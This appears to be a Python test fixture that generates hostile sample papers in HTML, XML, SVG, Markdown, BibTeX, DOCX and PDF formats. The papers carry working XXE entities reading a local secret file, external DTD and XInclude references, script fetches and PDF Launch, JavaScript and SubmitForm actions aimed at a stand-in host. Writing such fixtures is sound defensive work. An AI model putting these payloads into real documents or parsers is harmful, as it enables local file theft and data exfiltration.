"""Papers, one of each format, that ask whoever reads them to fetch, include or start something.

`secret` is the path of a file outside of the corpus; `web` the beginning of an address. Each paper also holds `TOLD`,
an honest definition.
"""

import io
import zipfile

import docx

from tests import hostile

TOLD = "Inter-agency working is defined as two or more agencies that plan and act together under a written agreement."
MORE = (
    "The term 'inter-agency' is often used interchangeably with multi-agency. Joined-up services were promised to all."
)


def papers(secret, web):
    """The papers by file name, as bytes."""
    texts = {
        "page.html": page(secret, web),
        "entities.xml": article(secret, web, f'<!DOCTYPE article [<!ENTITY s SYSTEM "file://{secret}">]>', "&s;"),
        "parameters.xml": article(secret, web, f'<!DOCTYPE article [<!ENTITY % s SYSTEM "{web}/s.dtd"> %s;]>', ""),
        "type.xml": article(secret, web, f'<!DOCTYPE article SYSTEM "file://{secret}">', ""),
        "type-on-the-web.xml": article(secret, web, f'<!DOCTYPE article PUBLIC "-//X//Y" "{web}/jats.dtd">', "&nbsp;"),
        "picture.svg": picture(secret, web),
        "note.md": f"# Note\n\n{TOLD}\n\n![]({web}/m.png) <img src='{web}/n.png'>\n\n[x]: file://{secret}\n",
        "library.bib": f"@article{{oak2004, title={{Desks}}, author={{Oak, Ada}}, year={{2004}}, file={{{secret}}}}}",
    }
    made = {name: text.encode() for name, text in texts.items()}
    return made | {"letter.docx": letter(secret, web), "fetching.pdf": portable(secret, web)}


def page(secret, web):
    return f"""<html><head><title>Shared desks</title><base href="{web}/base/">
<meta http-equiv="refresh" content="0; url={web}/refresh"><link rel="stylesheet" href="{web}/style.css">
<link rel="preload" href="file://{secret}">
<style>@import url({web}/import.css); p {{ background: url({web}/b.png) }}</style>
<script src="{web}/script.js"></script><script>fetch("{web}/fetch")</script></head>
<body onload="location='{web}/load'"><h1>Shared desks</h1><p>{TOLD}</p><p>{MORE}</p>
<img src="{web}/image.png" srcset="{web}/large.png 2x"><img src="file://{secret}"><iframe src="file://{secret}"></iframe>
<object data="{web}/object.pdf"></object><embed src="file://{secret}"><video src="{web}/film.mp4"></video>
<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{secret}" parse="text"/></body></html>"""


def article(secret, web, declared, used):
    return f"""<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="{web}/style.xsl"?>{declared}
<article xmlns:xi="http://www.w3.org/2001/XInclude" xmlns:xlink="http://www.w3.org/1999/xlink"
 xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:noNamespaceSchemaLocation="{web}/jats.xsd"><front>
<article-meta><title-group><article-title>Shared desks</article-title></title-group>
<self-uri xlink:href="file://{secret}"/></article-meta></front><body><p>{TOLD} {used}</p><p>{MORE}</p>
<xi:include href="file://{secret}" parse="text"/><xi:include href="{web}/part.xml"/>
<fig><graphic xlink:href="{web}/figure.png"/></fig></body></article>"""


def picture(secret, web):
    return f"""<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY s SYSTEM "file://{secret}">]>
<svg xmlns="http://www.w3.org/2000/svg"><script href="{web}/s.js"/><image href="{web}/i.png"/><text>&s;</text></svg>"""


def letter(secret, web):
    """A Word document with a template, a picture and a part of its text elsewhere, and a field that includes a file."""
    made, plain = io.BytesIO(), io.BytesIO()
    document = docx.Document()
    document.add_heading("Shared desks", 1)
    document.add_paragraph(TOLD)
    document.add_paragraph(MORE)
    document.save(plain)
    kinds = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    places = {"attachedTemplate": f"{web}/t.dotm", "image": f"{web}/i.png", "footnotes": f"file://{secret}"}
    places |= {"subDocument": f"file://{secret}", "styles": f"{web}/styles.xml", "oleObject": f"{web}/o.bin"}
    added = "".join(
        f'<Relationship Id="x{kind}" Type="{kinds}/{kind}" Target="{place}" TargetMode="External"/>'
        for kind, place in places.items()
    )
    field = f'<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;{secret}&quot; "/><w:subDoc r:id="xsubDocument"/></w:p>'
    with zipfile.ZipFile(plain) as old, zipfile.ZipFile(made, "w") as new:
        for name in old.namelist():
            part = old.read(name)
            if name == "word/_rels/document.xml.rels":
                part = part.replace(b"</Relationships>", added.encode() + b"</Relationships>")
            if name == "word/document.xml":
                part = part.replace(b"<w:sectPr", field.encode() + b"<w:sectPr", 1)
            new.writestr(name, part)
        new.writestr("word/_rels/settings.xml.rels", f'<Relationships xmlns="x">{added}</Relationships>')
    return made.getvalue()


def portable(secret, web):
    """A PDF with contents in another file, and actions of each kind as it opens, on its page and on a link."""
    place = secret.encode()
    actions = [
        b"<< /S /URI /URI (%s/uri) >>" % web.encode(),
        b"<< /S /JavaScript /JS (app.launchURL\\('%s/js'\\);) >>" % web.encode(),
        b"<< /S /Launch /F (%s) >>" % place,
        b"<< /S /GoToR /F (%s) /D [0 /Fit] >>" % place,
        b"<< /S /GoToE /F (%s) /D [0 /Fit] >>" % place,
        b"<< /S /SubmitForm /F << /FS /URL /F (%s/form) >> >>" % web.encode(),
        b"<< /S /ImportData /F (%s) >>" % place,
    ]
    notes = b" ".join(b"<< /Subtype /Link /Rect [0 0 99 99] /A %s >>" % each for each in actions)
    return hostile.paper(
        catalogue=b"<< /Type /Catalog /Pages 2 0 R /OpenAction %s /AA << /WC %s >> >>" % (actions[1], actions[2]),
        pages=b"<< /Type /Pages /Kids [3 0 R 6 0 R 8 0 R] /Count 3 >>",
        page=hostile.page(entries=b"/AA << /O %s >> /Annots [%s]" % (actions[0], notes)),
        contents=hostile.stream(hostile.shown(TOLD)),
        o6=hostile.page(7),
        o7=hostile.stream(b"", b"/F (%s)" % place),
        o8=hostile.page(9),
        o9=hostile.stream(b"", b"/F << /FS /URL /F (%s/contents) >>" % web.encode()),
    )
